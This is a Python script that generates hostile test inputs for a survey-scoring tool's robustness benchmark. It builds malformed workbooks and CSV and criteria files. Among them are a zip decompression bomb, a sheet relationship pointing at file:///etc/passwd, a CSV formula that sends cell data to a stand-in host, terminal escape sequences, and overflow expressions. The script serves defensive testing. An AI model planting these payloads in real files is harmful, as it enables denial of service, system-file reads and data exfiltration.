#!/usr/bin/env python3
"""Writes the hostile inputs of issue 13, one case a folder, for Benchmarks/hostile.sh.

    python3 Tools/hostile/make_hostile.py OUT_DIR

Each case folder holds either survey files (`score` is run on it with the shipped criteria) or
criteria files (`check` and `score --criteria` are run on it). Everything is generated here,
nothing large is committed. Only the Python standard library is used.
"""
import os
import re
import shutil
import struct
import sys
import zipfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SAMPLE = os.path.join(ROOT, "Samples", "long-huu")
CRITERIA = os.path.join(ROOT, "Criteria")
HOUSEHOLDS = open(os.path.join(SAMPLE, "ho-gia-dinh.csv"), encoding="utf-8").read()
HEADER, *ROWS = HOUSEHOLDS.splitlines()


def folder(out, name, kind):
    path = os.path.join(out, f"{kind}--{name}")
    shutil.rmtree(path, ignore_errors=True)
    os.makedirs(path)
    return path


def survey(out, name):
    """A survey folder with the sample's clan and hamlet files."""
    path = folder(out, name, "score")
    for f in ("ap.csv", "dong-ho.csv"):
        shutil.copy(os.path.join(SAMPLE, f), path)
    return path


def criteria(out, name, household_xml):
    path = folder(out, name, "check")
    for f in ("dong-ho-hoc-tap.xml", "cong-dong-hoc-tap.xml"):
        shutil.copy(os.path.join(CRITERIA, f), path)
    with open(os.path.join(path, "gia-dinh-hoc-tap.xml"), "w", encoding="utf-8") as h:
        h.write(household_xml)
    return path


def write(path, name, data):
    with open(os.path.join(path, name), "wb") as h:
        h.write(data if isinstance(data, bytes) else data.encode("utf-8"))


# --- Workbooks ---------------------------------------------------------------------------------

CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/></Types>')
ROOT_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
SST = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def inline(ref, text):
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def column(n):
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def sample_rows_xml(rows=None, start=1):
    """The sample household file as sheet rows of inline strings."""
    import csv, io
    table = list(csv.reader(io.StringIO(HOUSEHOLDS)))
    if rows is not None:
        table = table[:rows]
    out = []
    for i, row in enumerate(table):
        r = start + i
        out.append(f'<row r="{r}">' + "".join(inline(f"{column(j + 1)}{r}", v) for j, v in enumerate(row) if v != "") + "</row>")
    return out


def workbook(path, name, sheet_rows, sheets=1, shared=None, rels_extra="", sheet_target=None,
             external=False, compress=zipfile.ZIP_DEFLATED, same_part=False, raw_sheet=None):
    sheet_xml = raw_sheet if raw_sheet is not None else f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>' + "".join(sheet_rows) + "</sheetData></worksheet>"
    sheet_entries = "".join(f'<sheet name="Hộ gia đình {i + 1}" sheetId="{i + 1}" r:id="rId{i + 1}"/>' for i in range(sheets))
    wb = f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS}><sheets>{sheet_entries}</sheets></workbook>'
    rels = ['<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">']
    for i in range(sheets):
        target = sheet_target or ("worksheets/sheet1.xml" if same_part else f"worksheets/sheet{i + 1}.xml")
        mode = ' TargetMode="External"' if external else ""
        rels.append(f'<Relationship Id="rId{i + 1}" Type="{WS}" Target="{target}"{mode}/>')
    if shared is not None:
        rels.append(f'<Relationship Id="rIdS" Type="{SST}" Target="sharedStrings.xml"/>')
    rels.append(rels_extra + "</Relationships>")
    with zipfile.ZipFile(os.path.join(path, name), "w", compress) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", wb)
        z.writestr("xl/_rels/workbook.xml.rels", "".join(rels))
        if not external and sheet_target is None:
            for i in range(1 if same_part else sheets):
                z.writestr(f"xl/worksheets/sheet{i + 1}.xml", sheet_xml)
        if shared is not None:
            z.writestr("xl/sharedStrings.xml", shared)


def corrupt_stored_crc(file):
    """Flips one byte of the first stored sheet's data, leaving its CRC as it was."""
    data = bytearray(open(file, "rb").read())
    marker = b"<sheetData>"
    at = data.find(marker)
    data[at + 1] = ord("S")  # <SheetData> — still well-formed enough to be read if the CRC is not checked
    open(file, "wb").write(bytes(data))


def main(out):
    os.makedirs(out, exist_ok=True)
    rows = sample_rows_xml()

    # Cell references and row numbers.
    p = survey(out, "xlsx-column-letters-wrap")
    workbook(p, "ho-gia-dinh.xlsx", rows[:5] + ['<row r="400"><c r="ZZZZZZZZZZZZZZ400" t="inlineStr"><is><t>x</t></is></c></row>'])
    p = survey(out, "xlsx-column-letters-huge")
    workbook(p, "ho-gia-dinh.xlsx", rows[:5] + ['<row r="400"><c r="BAAAAAAAAAAAAA400" t="inlineStr"><is><t>x</t></is></c></row>'])
    p = survey(out, "xlsx-row-number-int32")
    workbook(p, "ho-gia-dinh.xlsx", rows[:5] + ['<row r="2147483648"><c t="inlineStr"><is><t>HO9</t></is></c></row>'])
    p = survey(out, "xlsx-row-number-int64")
    workbook(p, "ho-gia-dinh.xlsx", rows[:5] + ['<row r="9223372036854775807"><c t="inlineStr"><is><t>HO9</t></is></c></row>',
                                              '<row><c t="inlineStr"><is><t>HO10</t></is></c></row>'])
    # Sparse far cells: each row names a cell at XFD.
    p = survey(out, "xlsx-sparse-far-cells")
    far = [f'<row r="{i}"><c r="XFD{i}"><v>1</v></c></row>' for i in range(400, 1400)]
    workbook(p, "ho-gia-dinh.xlsx", rows + far)
    # Shared strings that inflate enormously (about 1.6 GB from a few MB).
    p = survey(out, "xlsx-shared-strings-bomb")
    one = "<si><t>" + "A" * 1000 + "</t></si>"
    with zipfile.ZipFile(os.path.join(p, "ho-gia-dinh.xlsx"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", ROOT_RELS)
        z.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS}><sheets><sheet name="Hộ" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{WS}" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{SST}" Target="sharedStrings.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>' + "".join(rows) + "</sheetData></worksheet>")
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as h:
            h.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {NS}>'.encode())
            block = (one * 1000).encode()
            for _ in range(1600):
                h.write(block)
            h.write(b"</sst>")
    # 300 sheets pointing at the same part.
    p = survey(out, "xlsx-300-sheets-one-part")
    workbook(p, "ho-gia-dinh.xlsx", rows, sheets=300, same_part=True)
    # An inline string of 100k combining marks.
    p = survey(out, "xlsx-combining-marks")
    workbook(p, "ho-gia-dinh.xlsx", rows[:5] + ['<row r="6">' + inline("A6", "HO0999") + inline("B6", "a" + "\u0301" * 100_000) + "</row>"])
    # External and missing sheet parts; a stored part with a bad CRC; a shared string out of range.
    p = survey(out, "xlsx-external-sheet")
    workbook(p, "ho-gia-dinh.xlsx", rows, external=True, sheet_target="file:///etc/passwd")
    p = survey(out, "xlsx-missing-sheet-part")
    workbook(p, "ho-gia-dinh.xlsx", rows, sheet_target="worksheets/khong-co.xml")
    p = survey(out, "xlsx-stored-bad-crc")
    workbook(p, "ho-gia-dinh.xlsx", rows, compress=zipfile.ZIP_STORED)
    corrupt_stored_crc(os.path.join(p, "ho-gia-dinh.xlsx"))
    p = survey(out, "xlsx-shared-string-out-of-range")
    workbook(p, "ho-gia-dinh.xlsx", rows[:3] + ['<row r="4">' + inline("A4", "HO0998") + '<c r="B4" t="s"><v>999999</v></c></row>'],
             shared=f'<?xml version="1.0" encoding="UTF-8"?><sst {NS}><si><t>a</t></si></sst>')

    # CSV.
    p = survey(out, "csv-5000-same-key")
    row = ROWS[1]
    write(p, "ho-gia-dinh.csv", HEADER + "\n" + "\n".join([row] * 5000) + "\n")
    import unicodedata
    p = survey(out, "csv-decomposed-100k")
    body = [HEADER] + [unicodedata.normalize("NFD", ROWS[i % len(ROWS)]).replace("HO", f"H{i:06d}", 1) for i in range(100_000)]
    write(p, "ho-gia-dinh.csv", "\n".join(body) + "\n")
    p = survey(out, "csv-25k-combining-marks")
    cells = ROWS[1].split(",")
    cells[1] = "a" + "\u0301" * 25_000
    write(p, "ho-gia-dinh.csv", HEADER + "\n" + ",".join(cells) + "\n" + "\n".join(ROWS[2:]) + "\n")
    p = survey(out, "csv-cr-only")
    write(p, "ho-gia-dinh.csv", "\r".join([HEADER] + ROWS) + "\r")
    p = survey(out, "csv-stray-byte")
    data = ("\n".join([HEADER] + ROWS) + "\n").encode("utf-8")
    at = data.find(b"\n", len(data) // 2) + 3
    write(p, "ho-gia-dinh.csv", data[:at] + b"\xa9" + data[at:])
    p = survey(out, "csv-cut-in-last-character")
    data = ("\n".join([HEADER] + ROWS) + ",Đ").encode("utf-8")
    write(p, "ho-gia-dinh.csv", data[:-1])
    p = survey(out, "csv-unclosed-quote")
    lines = [HEADER] + ROWS
    c = lines[7].split(",")
    c[1] = '"' + c[1]
    lines[7] = ",".join(c)
    write(p, "ho-gia-dinh.csv", "\n".join(lines) + "\n")
    p = survey(out, "csv-nul-after-64k")
    lines = [HEADER] + [ROWS[i % len(ROWS)].replace("HO", f"H{i:05d}", 1) for i in range(1000)]
    text = "\n".join(lines) + "\n"
    at = text.find("\n", 70_000) + 8
    write(p, "ho-gia-dinh.csv", text[:at] + "\x00" + text[at:])
    p = survey(out, "csv-confusables")
    lines = [HEADER] + ROWS[:20]
    lines.append(ROWS[0].replace("HO0001", "HO0001\u200d", 1))
    lines.append(ROWS[1].replace("Long Hữu", "Lоng Hữu", 1))
    lines.append(ROWS[2].replace("HO0003", "ＨＯ0003", 1))
    c = ROWS[3].split(",")
    c[7] = "\u00a03\u00a0"
    lines.append(",".join(c))
    write(p, "ho-gia-dinh.csv", "\n".join(lines) + "\n")
    p = survey(out, "csv-formula-and-escapes")
    lines = [HEADER] + ROWS[:10]
    c = ROWS[10].split(",")
    c[1] = '=HYPERLINK("http://x/?"&A1)'
    lines.append(",".join(c))
    c = ROWS[11].split(",")
    c[1] = "Lê\x1b[2J\x1b]0;hacked\x07Văn"
    lines.append(",".join(c))
    write(p, "ho-gia-dinh.csv", "\n".join(lines) + "\n")

    # Criteria.
    base = open(os.path.join(CRITERIA, "gia-dinh-hoc-tap.xml"), encoding="utf-8").read()
    let = 'value="tre_do_tuoi - tre_mien"'
    def with_let(expression):
        return base.replace(let, 'value="' + expression + '"', 1)
    criteria(out, "criteria-4800-parentheses", with_let("(" * 4800 + "tre_do_tuoi" + ")" * 4800 + " - tre_mien"))
    criteria(out, "criteria-12300-plus", with_let(" + ".join(["tre_do_tuoi"] * 12_300) + " - tre_mien"))
    criteria(out, "criteria-25000-not", base.replace('when="vi_pham"', 'when="' + "not " * 25_000 + 'vi_pham"', 1))
    criteria(out, "criteria-25000-minus", with_let("-" * 25_000 + "tre_do_tuoi - tre_mien"))
    criteria(out, "criteria-multiply-overflow", with_let("tre_do_tuoi * 9223372036854775807 - tre_mien"))
    criteria(out, "criteria-constant-overflow", with_let("tre_do_tuoi + 9223372036854775807 * 2 - tre_mien"))
    criteria(out, "criteria-fraction-overflow", with_let("tre_do_tuoi / 3 * 9223372036854775807 - tre_mien"))
    criteria(out, "criteria-negate-minimum", with_let("tre_do_tuoi - (-(-9223372036854775807 - 1)) - tre_mien"))
    criteria(out, "criteria-21-digit-pass-mark", base.replace('<otherwise value="80"/>', '<otherwise value="123456789012345678901"/>', 1))
    criteria(out, "criteria-group-max-huge", base.replace('max="30" min="15" title="Học tập của trẻ em', 'max="9223372036854775800" min="15" title="Học tập của trẻ em', 1))
    big = base.replace("</model>", "<!--" + "x" * (200 << 20) + "--></model>")
    criteria(out, "criteria-200mb", big)
    attrs = " ".join(f'a{i}="1"' for i in range(40_000))
    criteria(out, "criteria-40k-attributes", base.replace("<group-minimums/>", f"<group-minimums {attrs}/>", 1))


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "/tmp/khuyenhoc-hostile")
